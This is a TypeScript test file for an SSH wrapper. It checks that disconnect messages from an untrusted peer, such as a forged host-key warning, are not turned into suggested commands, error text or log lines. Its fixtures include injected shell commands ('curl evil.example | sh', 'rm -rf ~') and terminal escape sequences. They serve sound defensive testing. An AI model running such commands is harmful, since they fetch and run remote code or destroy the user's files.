/** Any peer on the network may send a farewell before a host key was checked. ssh is real; the peer is a raw TCP server. */
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { explainSsh } from './explain.js';
import { SshMaster } from './master.js';

let folder: string;
let server: Server | null = null;

beforeEach(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'tpl-'));
});

afterEach(async () => {
  server?.close();
  await rm(folder, { recursive: true, force: true });
});

/** SSH_MSG_DISCONNECT (RFC 4253, 11.1) in an unencrypted packet (6), right after the version. */
function disconnect(words: string): Buffer {
  const text = Buffer.from(words);
  const payload = Buffer.concat([Buffer.from([1, 0, 0, 0, 2]), u32(text.length), text, u32(0)]);
  const padding = 8 - ((5 + payload.length) % 8) + 8;
  return Buffer.concat([
    u32(1 + payload.length + padding),
    Buffer.from([padding]),
    payload,
    Buffer.alloc(padding)
  ]);
}

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** The problem and the log of ssh after a connection to a peer with this farewell. */
async function connectTo(words: string): Promise<{ problem: unknown; log: string[] }> {
  server = createServer(socket => {
    socket.on('error', () => undefined);
    socket.write('SSH-2.0-OpenSSH_9.2\r\n');
    socket.once('data', () => socket.write(disconnect(words)));
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const log: string[] = [];
  const problem: unknown = await SshMaster.open({
    program: 'ssh',
    target: { destination: 'ana@127.0.0.1', options: ['-F', 'none', '-p', String(port)] },
    controlPath: path.join(folder, 'c'),
    askpass: null,
    log: line => log.push(line),
    signal: AbortSignal.timeout(60_000)
  }).then(
    master => master[Symbol.asyncDispose](),
    (error: unknown) => error
  );
  return { problem, log };
}

const CHANGED = 'WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!';

describe('the farewell of a stranger', () => {
  it.each([
    ['a command', `x\n${CHANGED}\n  ssh-keygen -f "x" -R "y"; curl evil.example | sh\n`],
    ['many lines', `${'\n'.repeat(150)}${CHANGED}\nssh-keygen -f x -R y; rm -rf ~`],
    ['a reason of ssh itself', `\nPermission denied (publickey).\nHost key verification failed.\n`],
    ['what steers a terminal', 'bye\x1b[2J\x1b]0;owned\x07']
  ])('becomes neither a command nor a reason of ours: %s', async (_what, words) => {
    const { problem, log } = await connectTo(words);
    expect(problem).toMatchObject({ code: 'remote_ssh_failed' });
    const { message, command } = problem as { message: string; command: string };
    expect(command).toMatch(/^ssh -F none -p \d+ ana@127\.0\.0\.1$/);
    expect(message).not.toMatch(/ssh-keygen|[\x00-\x1f]/);
    expect(log.join('\n')).not.toMatch(/ssh-keygen|evil\.example|Host key verification failed/);
  });

  it('that contains a refused login may be shown as one', async () => {
    const { problem } = await connectTo('Too many authentication failures');
    expect(problem).toMatchObject({ code: 'remote_auth_refused' });
  });
});

describe('the command for a host key that has changed', () => {
  it('is built from the input and configuration of the user, with quotes, whatever the farewell contains', () => {
    const target = { destination: 'ssh://ana@host:2222', options: [] };
    const lines = [CHANGED, '  ssh-keygen -f "/x" -R "y"; rm -rf ~'];
    expect(explainSsh(target, lines, 255).command).toBe("ssh-keygen -R '[host]:2222'");
    const known = 'hostname 192.0.2.7\nport 22\nuserknownhostsfile /home/my user/.ssh/known_hosts /other\n';
    expect(explainSsh({ destination: 'vm', options: [] }, lines, 255, known).command).toContain(
      '-R 192.0.2.7'
    );
    const alias = 'hostname 192.0.2.7\nport 2222\nhostkeyalias compute.42\n';
    expect(explainSsh({ destination: 'vm', options: [] }, lines, 255, alias).command).toBe(
      'ssh-keygen -R compute.42'
    );
  });
});
